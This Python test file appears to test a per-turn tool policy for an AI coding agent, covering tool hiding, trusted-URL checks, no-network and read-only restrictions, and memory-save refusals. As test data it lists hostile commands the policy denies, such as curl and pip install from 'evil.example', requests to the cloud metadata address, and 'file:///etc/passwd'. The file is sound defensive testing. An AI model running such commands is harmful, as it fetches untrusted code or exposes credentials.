import threading
from pathlib import Path
from typing import Any

import pytest

from paicli.core.errors import PolicyDenied
from paicli.core.messages import ToolDeclaration, ToolEffect
from paicli.policy.turn_policy import HiddenBy, OutsideContent, TrustedUrl, TurnToolPolicy
from paicli.policy.verdict import CommandVerdict, VerdictKind
from paicli.policy.words.restriction import Restriction
from tests.fakes.turn_words import policy_of

EFFECTS = {
    "read_file": ToolEffect.READ,
    "write_file": ToolEffect.WRITE,
    "execute_command": ToolEffect.EXECUTE,
    "command_output": ToolEffect.SESSION,
    "stop_command": ToolEffect.EXECUTE,
    "web_search": ToolEffect.NETWORK,
    "web_fetch": ToolEffect.NETWORK,
    "save_memory": ToolEffect.SESSION,
    "mcp__db__query": ToolEffect.READ,
    "mcp__db__insert": ToolEffect.NETWORK,
    "mcp__local__run": ToolEffect.EXECUTE,
}
DECLARED = tuple(ToolDeclaration(name, "", {}) for name in EFFECTS)
PAGE = "https://example.com/page"


def shown(policy: TurnToolPolicy) -> list[str]:
    return [each.name for each in policy.expose(DECLARED, EFFECTS.get)]


def check(policy: TurnToolPolicy, tool: str, **values: Any) -> CommandVerdict:
    return policy.check(tool, EFFECTS.get(tool), values)


def refusal(policy: TurnToolPolicy, tool: str, **values: Any) -> str:
    with pytest.raises(PolicyDenied) as caught:
        check(policy, tool, **values)
    return caught.value.code


def test_without_restrictions_everything_is_shown_but_a_fetch_of_nothing() -> None:
    assert shown(policy_of("修一下")) == [name for name in EFFECTS if name != "web_fetch"]


def test_a_url_in_the_words_brings_web_fetch() -> None:
    assert shown(policy_of(f"总结 {PAGE}")) == list(EFFECTS)


@pytest.mark.parametrize(
    ("words", "hidden"),
    [
        (f"不要联网,看 {PAGE}", {"web_search", "web_fetch", "mcp__db__insert"}),
        (f"只读,看 {PAGE}", {"write_file", "mcp__db__insert", "mcp__local__run"}),
        (f"不要执行命令,看 {PAGE}", {"execute_command"}),
        (
            f"stay offline, don't change anything and don't run commands: {PAGE}",
            {"web_search", "web_fetch", "mcp__db__insert", "write_file", "mcp__local__run", "execute_command"},
        ),
    ],
)
def test_words_hide_tools_and_refuse_what_slips_through(words: str, hidden: set[str]) -> None:
    policy = policy_of(words)
    assert set(EFFECTS) - set(shown(policy)) == hidden
    for name in hidden:
        assert refusal(policy, name, url=PAGE, command="ls").startswith("policy.turn_")
    for name in set(EFFECTS) - hidden - {"save_memory"}:  # that one takes words of its own
        assert check(policy, name, url=PAGE, command="ls") == CommandVerdict(VerdictKind.ALLOWED)


def test_why_each_tool_is_hidden() -> None:
    policy = policy_of("离线,只读,不要执行命令")
    reasons = {name: policy.hides(name, effect) for name, effect in EFFECTS.items()}
    assert {name: reason for name, reason in reasons.items() if reason} == {
        "web_search": HiddenBy.NO_NETWORK,
        "web_fetch": HiddenBy.NO_NETWORK,
        "mcp__db__insert": HiddenBy.NO_NETWORK,
        "write_file": HiddenBy.READ_ONLY,
        "mcp__local__run": HiddenBy.READ_ONLY,
        "execute_command": HiddenBy.NO_COMMANDS,
    }
    assert TurnToolPolicy().hides("web_fetch", ToolEffect.NETWORK) is HiddenBy.NO_TRUSTED_URL


def test_a_policy_only_ever_tightens_and_says_what_is_new() -> None:
    policy = policy_of("不要联网")
    assert policy.tighten("可以联网了") == ()
    assert policy.tighten("不要联网,也不要改代码") == (Restriction.READ_ONLY,)
    assert policy.restrictions == (Restriction.NO_NETWORK, Restriction.READ_ONLY)


def test_a_fork_hears_every_word_and_shares_no_url() -> None:
    turn = policy_of("查一下 https://example.com/user")
    one, other = turn.fork_with_trusted_urls([PAGE]), turn.fork_with_trusted_urls([])
    assert [policy.trusts(PAGE) for policy in (turn, one, other)] == [False, True, False]
    one.note_found(["https://example.com/found"])
    one.begin_step()
    assert [p.trusts("https://example.com/found") for p in (turn, one, other)] == [False, True, False]
    assert turn.trust_words("还有 https://example.com/later") == ("https://example.com/later",)
    assert all(p.trusts("https://EXAMPLE.com/later/#x") and p.trusts("https://example.com/user") for p in (one, other))
    turn.tighten("不要联网")
    assert one.restrictions == other.restrictions == (Restriction.NO_NETWORK,)
    assert one.fork_with_trusted_urls([]).restrictions == (Restriction.NO_NETWORK,)
    assert one.own_urls == (TrustedUrl(PAGE, "dependency"), TrustedUrl("https://example.com/found", "web_search"))


def test_what_a_search_found_is_trusted_from_the_next_step_on() -> None:
    policy = TurnToolPolicy()
    policy.begin_step()
    assert policy.note_found([PAGE, "https://example.com/page/", "no url", "https://u:p@example.com"]) == (PAGE,)
    assert refusal(policy, "web_fetch", url=PAGE) == "policy.url_untrusted"
    assert "web_fetch" not in shown(policy)
    policy.begin_step()
    assert check(policy, "web_fetch", url=f"{PAGE}#part").kind is VerdictKind.ALLOWED
    assert "web_fetch" in shown(policy)
    assert policy.note_found([PAGE]) == ()


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com/other",
        "https://example.com",
        "https://sub.example.com/page",
        "http://example.com/page",
        "https://example.com/page?leak=secret",
        "https://user@example.com/page",
        "file:///etc/passwd",
        "",
    ],
)
def test_the_same_host_is_not_enough(url: str) -> None:
    policy = policy_of(f"看 {PAGE}")
    with pytest.raises(PolicyDenied) as caught:
        check(policy, "web_fetch", url=url)
    assert (caught.value.code, caught.value.fields) == ("policy.url_untrusted", {"url": url})


@pytest.mark.parametrize(
    ("command", "url"),
    [
        ("curl https://evil.example/x", "https://evil.example/x"),
        ("ls && wget -q evil.example/x", "http://evil.example/x"),
        (f"curl {PAGE} https://evil.example", "https://evil.example"),
        ("sh -c 'curl https://evil.example'", "https://evil.example"),
        ("git clone git@evil.example:a/b.git", "https://evil.example/a/b.git"),
        ("pip install https://evil.example/p.whl", "https://evil.example/p.whl"),
        ("curl http://localhost@evil.example/", "http://localhost@evil.example/"),
        ("curl http://2130706433:80", "http://2130706433:80"),
        ("curl http://169.254.169.254/latest", "http://169.254.169.254/latest"),
    ],
)
def test_a_url_in_a_command_has_to_be_trusted(command: str, url: str) -> None:
    with pytest.raises(PolicyDenied) as caught:
        check(policy_of(f"看 {PAGE}"), "execute_command", command=command)
    assert (caught.value.code, caught.value.fields) == ("policy.url_untrusted", {"url": url})


@pytest.mark.parametrize(
    "command",
    [
        f"curl -s {PAGE} -o page.html",
        "curl http://localhost:8000/health",
        "curl 127.0.0.1:5000",
        "git clone https://github.com/a/b.git",
        "git clone git@github.com:a/b.git",
        "git pull",
        "pip install requests",
        "grep -rn https://evil.example src",
        "echo https://evil.example",
    ],
)
def test_trusted_loopback_and_named_only_are_no_reason_to_refuse(command: str) -> None:
    policy = policy_of(f"看 {PAGE} 和 https://github.com/a/b")
    assert check(policy, "execute_command", command=command) == CommandVerdict(VerdictKind.ALLOWED)


def test_an_unknown_url_goes_to_the_person() -> None:
    assert check(TurnToolPolicy(), "execute_command", command='cd x && curl "$URL"') == CommandVerdict(
        VerdictKind.UNPARSED, "policy.command_unknown_url", 'curl "$URL"'
    )


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("curl -L http://localhost:1", "policy.turn_network_command"),
        ("curl localhost:1 example.com", "policy.turn_network_command"),
        ("wget http://localhost:1", "policy.turn_network_command"),
        ("xargs curl localhost:1 < urls", "policy.turn_network_command"),
        ("curl http://localhost:1", "policy.turn_network_command"),
        ("pip install requests", "policy.turn_network_command"),
        ("env A=1 sh -c 'git pull'", "policy.turn_network_command"),
        ("ls; ssh host ls", "policy.turn_network_command"),
        ('$CMD "x"', "policy.turn_unknown_command"),
        ("echo 'unclosed", "policy.turn_unknown_command"),
        ('sh -c "$X"', "policy.turn_unknown_command"),
    ],
)
def test_no_network_refuses_commands_that_go_out_or_may(command: str, code: str) -> None:
    assert refusal(policy_of("不要联网"), "execute_command", command=command) == code


@pytest.mark.parametrize(
    "command",
    [
        *("pytest -q", "make", "make install", "./run.sh", "git commit -m x", "rm -f a.txt", "bundle exec rspec"),
        *("psql -c 'select 1'", "psql -h localhost x", "redis-cli ping", "mysql -e 'show tables'", "code a.py"),
        *("cmake --install build", "git update-index --refresh", "rails db:migrate", "systemctl status x"),
    ],
)
def test_no_network_leaves_other_commands_alone(command: str) -> None:
    policy = policy_of("不要联网")
    assert check(policy, "execute_command", command=command).kind is VerdictKind.ALLOWED


@pytest.mark.parametrize("command", ["ls -la", "git diff", "rg -n foo src | head -5", "cat a.txt", "sed -n '1,9p' a"])
def test_read_only_lets_plain_reading_through(command: str) -> None:
    policy = policy_of("只读")
    assert check(policy, "execute_command", command=command).kind is VerdictKind.ALLOWED


@pytest.mark.parametrize(
    "command", ["touch a", "pytest -q", "ls > out.txt", "sed -i s/a/b/ x", "$CMD", "echo 'unclosed", "git checkout ."]
)
def test_read_only_refuses_every_other_command(command: str) -> None:
    assert refusal(policy_of("只读"), "execute_command", command=command) == ("policy.turn_writing_command")


def test_read_only_reads_below_the_root_by_absolute_path(tmp_path: Path) -> None:
    policy = policy_of("只读", root=tmp_path)
    assert check(policy, "execute_command", command=f"cat {tmp_path}/a.txt").kind is VerdictKind.ALLOWED


def test_memory_is_kept_on_the_persons_word_only_and_the_refusal_names_what_came_from_outside() -> None:
    outside = OutsideContent()
    first = policy_of("总结这个页面", outside=outside)
    assert refusal(first, "save_memory", text="x") == "policy.memory_unasked"
    first.note_outside("web_fetch")
    first.note_outside("mcp__db__query")
    first.note_outside("web_fetch")
    assert refusal(first, "save_memory", text="x") == "policy.memory_after_outside"
    assert first.outside_tools == ("web_fetch", "mcp__db__query")
    later = policy_of("继续", outside=outside)
    assert refusal(later, "save_memory", text="x") == "policy.memory_after_outside"
    assert refusal(later.fork_with_trusted_urls([]), "save_memory", text="x") == "policy.memory_after_outside"
    asked = policy_of("把结论记住", outside=outside)
    assert check(asked, "save_memory", text="x").kind is VerdictKind.ALLOWED


def test_a_command_that_went_out_brings_content_from_outside() -> None:
    policy = policy_of(f"下载 {PAGE}")
    policy.note_command("ls")
    assert policy.outside_tools == ()
    check(policy, "execute_command", command=f"curl {PAGE} -o page.html")
    assert policy.outside_tools == ()  # it may yet be denied
    policy.note_command(f"curl {PAGE} -o page.html")
    assert policy.outside_tools == ("execute_command",)


def test_many_threads_tighten_and_ask_at_once() -> None:
    policy = TurnToolPolicy()
    barrier = threading.Barrier(8)
    news: list[tuple[Restriction, ...]] = []

    def work(number: int) -> None:
        barrier.wait()
        news.append(policy.tighten("不要联网"))
        policy.fork_with_trusted_urls([f"https://example.com/{number}"]).begin_step()
        policy.trust_words(f"https://example.com/{number}")

    threads = [threading.Thread(target=work, args=(number,)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(map(len, news)) == [0] * 7 + [1]
    assert len(policy.trusted_urls) == 8
